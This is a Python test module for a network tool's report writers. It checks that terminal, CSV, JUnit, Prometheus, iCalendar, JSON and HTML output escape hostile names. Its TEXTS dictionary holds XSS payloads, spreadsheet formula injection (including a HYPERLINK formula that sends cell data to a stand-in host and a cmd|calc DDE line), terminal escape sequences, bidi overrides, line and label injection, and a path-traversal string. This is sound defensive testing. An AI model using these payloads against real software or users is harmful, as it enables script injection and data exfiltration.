"""What a controller or an inventory may call itself, through every writer: read by parsers of others.

Sources: OWASP, "CSV Injection"; OWASP, "Cross Site Scripting Prevention Cheat Sheet"; CVE-2021-42574 ("Trojan Source")
for bidi overrides; ECMA-48 for control sequences, and xterm's "Control Sequences" for OSC 0 and OSC 8; XML 1.0 section
2.2 for characters that no document may hold; RFC 5545 sections 3.1 and 3.3.11 for folding and escaping; Prometheus,
"Exposition formats" for label values.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from icalendar import Calendar
from playwright.sync_api import Browser, Page
from prometheus_client.parser import text_string_to_metric_families
from rich.console import RenderableType

from collector import rules
from collector.commands.telling import complain
from collector.finding import Status, Verdict
from collector.nights.news import standing
from collector.nights.night import Room
from collector.ordering import Step, When
from collector.report import document, junit, message, metrics, page, plan_page, plan_terminal, table, terminal
from collector.report.board.addresses import stem
from collector.report.calendar import calendar
from collector.report.progress import SweepProgress
from collector.report.visible import encodable, visible
from collector.result import PairResult, Result
from tests.collector.report.board.conftest import written
from tests.collector.report.board.sample import LAST, MemoryStore
from tests.collector.report.plan_sample import HOSTILE_PLAN, planned
from tests.collector.report.sample import RESULT, STARTED, evidence, finding, pair

TEXTS = {
    "script": "<script>window.__x=1</script>",
    "end of style": "</style></script></title></textarea><svg onload=window.__x=1>",
    "attribute": "\" autofocus onfocus=window.__x=1 x='",
    "comment": "--><img src=x onerror=window.__x=1><!--",
    "cdata": "]]><x/>&#0;&lt;",
    "url": "javascript:window.__x=1//",
    "template": "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "formula": '=HYPERLINK("https://out.invalid/?"&A1,"x")',
    "command": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd",
    "minus": "-2+3",
    "wide formula": "\uff1d1+1",
    "tab and CR": '\t=1+1\r=2,"",\r\n"=3',
    "clear screen": "\x1b[2J\x1b[H\x1b]0;gone\x07",
    "hyperlink": "\x1b]8;;https://out.invalid\x1b\\quay\x1b]8;;\x1b\\",
    "C1": "\x9b2J\x9d0;gone\x9c\x90q\x9c",
    "back": "go\x08\x08no-go\r\x7f\x0c",
    "bidi": "quay \u202e\u2066go-on\u2069\u202c",
    "zero width": "qu\u200bay\u200d\ufeff\u00ad\u2060",
    "lines": "quay\nX-Evil: 1\u2028\u2029\x85END:VEVENT\r\nBEGIN:VEVENT",
    "label": 'quay"} 1\nreadypair_pairs_unreached 99\n\\',
    "calendar": "quay;X=1,2\\n\\;\nATTACH:https://out.invalid",
    "markdown": "[x](https://out.invalid) `code` **b** ![](x) <!channel> @everyone",
    "markup": "[bold red]quay[/bold red][/][link=https://out.invalid]",
    "format": "%s%n%d {0.__class__} {result!r:>9999}",
    "no characters": "\x00\x01\ufffe\uffff\U000e0001",
    "bytes": "quay\udcff\udc80\ud83d",
    "path": "../../etc/passwd\\..\\x",
    "blank": " ",
    "long": "W" * 100_000,
}


def hostile(text: str) -> PairResult:
    """A pair in which everything from outside says it."""
    said = finding("flash-space", Status.BLOCK, text, text, evidence(text, "dir bootflash:", text, text))
    unknown = finding("pair-state", Status.UNKNOWN, text, text)
    one = pair(text, text, Verdict.NO_GO, said, unknown)
    first, second = (replace(each, name=text, role=text, release=text, unreached_because=text) for each in one.members)
    steps = (Step("flash-space", text, When.ANY_TIME, disruptive=False),)
    return replace(one, members=(first, second), steps=steps, target_release=text)


@pytest.fixture(scope="module")
def result() -> Result:
    """The fleet in which every text names a pair."""
    return replace(
        RESULT, pairs=tuple(map(hostile, TEXTS.values())), inventory=TEXTS["script"], notes=tuple(TEXTS.values())
    )


def harmless_lines(text: str) -> bool:
    """Whether a terminal shows the text as it is: nothing in it but what is seen, blanks and its line ends."""
    return all(
        unicodedata.category(each) not in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp") for each in text if each != "\n"
    )


def printed(what: RenderableType) -> str:
    out = io.StringIO()
    console = terminal.console(out)
    console.width = 200
    console.print(what)
    return out.getvalue()


def squeezed(text: str) -> str:
    return "".join(text.split())


def test_terminals(result: Result, capsys: pytest.CaptureFixture[str]) -> None:
    plan = planned(replace(HOSTILE_PLAN, notes=tuple(TEXTS.values())))
    for what in (terminal.fleet(result), plan_terminal.plan(plan), *map(terminal.detail, result.pairs)):
        shown = printed(what)
        assert harmless_lines(shown)
    told = squeezed(printed(terminal.fleet(result)))
    assert all(squeezed(visible(text))[:14] in told for text in TEXTS.values())
    with SweepProgress(len(result.pairs), quiet=False) as progress:
        for each in result.pairs:
            progress.asked(each.members[0].name, "show version")
            progress.judged(each)
            complain(each.pair.name, 2)
    assert harmless_lines(capsys.readouterr().err)
    sent = message.of_fleet(standing(result.pairs, STARTED), result)
    assert harmless_lines(sent.subject + sent.body)
    assert len(sent.body) <= message.LONGEST


def test_comma_separated_values(result: Result) -> None:
    read = list(csv.DictReader(io.StringIO(table.table(result), newline=""), strict=True))
    assert len(read) == len(TEXTS)
    for row, text in zip(read, TEXTS.values(), strict=True):
        assert set(row) == set(table.COLUMNS)
        assert row["pair"].removeprefix("'") == encodable(visible(text))
        assert not any(cell.lstrip().startswith(tuple("=+-@\t\r\n＝＋－＠")) for cell in row.values())
        assert all(harmless_lines(cell) and "\n" not in cell for cell in row.values())


def test_junit(result: Result) -> None:
    read = ElementTree.fromstring(junit.junit(result))
    suites = read.findall("testsuite")
    assert [suite.get("name") for suite in suites] == [visible(text) for text in TEXTS.values()]
    for suite, text in zip(suites, TEXTS.values(), strict=True):
        failure = suite.find("testcase/failure")
        assert failure is not None
        assert failure.get("message") == visible(text)
        assert visible(text).strip() in (failure.text or "")
    assert {each.tag for each in read.iter()} <= {
        "testsuites", "testsuite", "testcase", "failure", "error", "skipped", "system-out", "properties", "property"
    }  # fmt: skip


def test_metrics(result: Result) -> None:
    rooms = {text: (Room(text, 1, 2, 3),) for text in TEXTS.values()}
    text = metrics.metrics(result, rooms, last_success=1.0).decode("utf-8")
    read = {family.name: family.samples for family in text_string_to_metric_families(text)}
    verdicts = read["readypair_pair_verdict"]
    assert {sample.labels["pair"] for sample in verdicts} == {encodable(each) for each in TEXTS.values()}
    assert all(set(sample.labels) == {"pair", "site", "verdict"} for sample in verdicts)
    assert [sample.value for sample in read["readypair_pairs_unreached"]] == [0]
    assert {s.labels["member"] for s in read["readypair_flash_free_bytes"]} == {encodable(t) for t in TEXTS.values()}


def test_calendar() -> None:
    plans = [
        replace(HOSTILE_PLAN, pair=replace(HOSTILE_PLAN.pair, name=text, site=text), notes=(text,))
        for text in TEXTS.values()
    ]
    data = calendar(plans)
    assert data is not None
    # RFC 5545, 3.1: lines end in CR LF, and are no longer than 75 octets.
    assert all(len(line) <= 75 and b"\r" not in line and b"\n" not in line for line in data.split(b"\r\n"))
    events = Calendar.from_ical(data).walk("VEVENT")
    assert {str(event["location"]) for event in events} == {visible(text) for text in TEXTS.values()}
    allowed = {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "LOCATION", "TRANSP"}
    assert all(set(event) <= allowed for event in events)


def test_json(result: Result) -> None:
    text = json.dumps(document.document(result), ensure_ascii=False).encode("utf-8")
    assert [each["pair"] for each in json.loads(text)["pairs"]] == [encodable(each) for each in TEXTS.values()]


@pytest.fixture(scope="module")
def pages(result: Result, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every page that is made of the fleet, in one folder."""
    folder = tmp_path_factory.mktemp("pages")
    plans = [
        planned(replace(HOSTILE_PLAN, pair=replace(HOSTILE_PLAN.pair, name=text, site=text), notes=(text,)))
        for name, text in TEXTS.items()
        if name in ("script", "end of style", "attribute", "bidi", "bytes", "no characters")
    ]
    (folder / "report.html").write_text(page.page(result, rules.CATALOGUE), encoding="utf-8")
    (folder / "plan.html").write_text(plan_page.page(plans, TEXTS["script"]), encoding="utf-8")
    (folder / "procedure.html").write_text(plan_page.procedure(plans), encoding="utf-8")
    store = MemoryStore()
    for each in result.pairs:
        store.add(each, LAST)
    written(store, folder / "board")
    return folder


@pytest.fixture
def tab(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


def test_pages(pages: Path, tab: Page) -> None:
    """With the page's own policy taken away, which would stop a script that got in: escaping has to do by itself."""
    made = sorted(pages.glob("**/*.html"))
    assert {f"{stem(text)}.html" for text in TEXTS.values()} <= {each.name for each in made}
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url))
    whole = {}
    for file in made:
        text = file.read_text(encoding="utf-8")
        assert harmless_lines(text.replace("\t", " "))
        open_page = file.with_suffix(".open.html")
        open_page.write_text(text.replace('http-equiv="Content-Security-Policy"', 'name="none"'), encoding="utf-8")
        tab.goto(open_page.as_uri())
        found = tab.evaluate(
            """() => [window.__x, document.documentElement.textContent,
                [...document.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.name))
                  .filter((name) => name.startsWith("on") || name === "autofocus"),
                [...document.querySelectorAll("[href], [src]")]
                  .map((e) => (e.href && (e.href.baseVal ?? e.href)) || e.src)
                  .filter((url) => !/^(file|data):/.test(url))]"""
        )
        assert [found[0], found[2], found[3]] == [None, [], []], file.name
        whole[file.name] = found[1]
    # A script that had got in would have run.
    report = (pages / "report.open.html").read_text(encoding="utf-8")
    (pages / "control.html").write_text(report.replace("</main>", f"{TEXTS['script']}</main>"), encoding="utf-8")
    tab.goto((pages / "control.html").as_uri())
    assert tab.evaluate("window.__x") == 1
    assert all(visible(text) in whole["report.html"] for text in TEXTS.values())
    for text in TEXTS.values():
        assert visible(text)[:1_000] in whole[f"{stem(text)}.html"]
    assert all(url.startswith(("file:", "data:")) for url in asked)
    assert all(
        Path(url.removeprefix("file://").partition("#")[0]).is_relative_to(pages)
        for url in asked
        if url.startswith("file:")
    )
